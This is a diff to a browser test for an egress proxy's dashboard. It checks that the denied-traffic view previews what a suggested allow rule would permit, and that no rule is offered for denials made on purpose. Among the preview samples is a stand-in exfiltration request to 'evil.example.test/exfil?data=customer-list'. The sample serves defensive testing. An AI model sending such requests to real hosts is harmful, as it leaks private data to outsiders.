@@ -210,17 +210,36 @@ test('the dashboard streams flows live, filters them, shows details with the rul
     await page.fill('#filter', '');
   });
 
-  await t.test('the denied view groups by host and copies a ready-made allow rule', async () => {
+  await t.test('the denied view groups by host, explains a suggested rule before copying it, and suggests none from deliberate or attack-shaped denials', async () => {
     await page.click('a[data-tab="denied"]');
     const card = page.locator('article.card[data-host="evil.example.test"]');
     await card.waitFor();
     assert.match(await card.textContent() ?? '', /2 denied/);
     const suggestion = await card.locator('pre.suggestion').textContent();
     assert.equal(suggestion, `  - name: allow-evil.example.test\n    hosts: [evil.example.test]\n    ports: [443, ${origin.port}]\n`);
+    // First click: explain what the rule would allow (the admin API's explain, with the rule as a candidate).
+    assert.equal(await card.locator('button.copy').textContent(), 'Copy allow rule');
+    await card.locator('button.copy').click();
+    await page.waitForFunction(() => document.querySelector('article.card[data-host="evil.example.test"] button.copy')?.textContent === 'Copy this rule');
+    assert.equal(await card.locator('.candidate-explain').textContent(), `allow allow-evil.example.test: host evil.example.test, port 443|${origin.port}`);
+    const samples = await card.locator('.preview-samples li').allTextContents();
+    assert.deepEqual(samples.sort(), [
+      `GET http://evil.example.test:${origin.port}/exfil?data=customer-list → allowed by the suggested rule`,
+      'GET https://evil.example.test:443/ → allowed by the suggested rule, spliced (not decrypted): every request in the tunnel passes',
+    ].sort());
+    // Second click: copy.
     await card.locator('button.copy').click();
     await page.waitForFunction(() => document.querySelector('article.card[data-host="evil.example.test"] button.copy')?.textContent === 'Copied ✓');
     assert.equal(await page.evaluate(() => navigator.clipboard.readText()), suggestion);
-    assert.match(await page.locator('article.card[data-host="deb.debian.test"] pre.suggestion').textContent() ?? '', /methods: \[POST\]/);
+    // A POST refused by a rule's methods, and a request for another bucket refused by a rule's
+    // paths, are deliberate: shown with a note, never offered as a rule.
+    for (const host of ['deb.debian.test', 'www.googleapis.com']) {
+      const deliberate = page.locator(`article.card[data-host="${host}"]`);
+      await deliberate.waitFor();
+      assert.equal(await deliberate.locator('pre.suggestion').count(), 0, host);
+      assert.equal(await deliberate.locator('button.copy').count(), 0, host);
+      assert.match(await deliberate.locator('p.note').textContent() ?? '', /a rule limits this host's paths or methods on purpose/, host);
+    }
     if (process.env.PORTCULLIS_SCREENSHOTS === '1') await page.screenshot({ path: path.join(SCREENSHOTS, 'dashboard-denied.png') });
   });
 
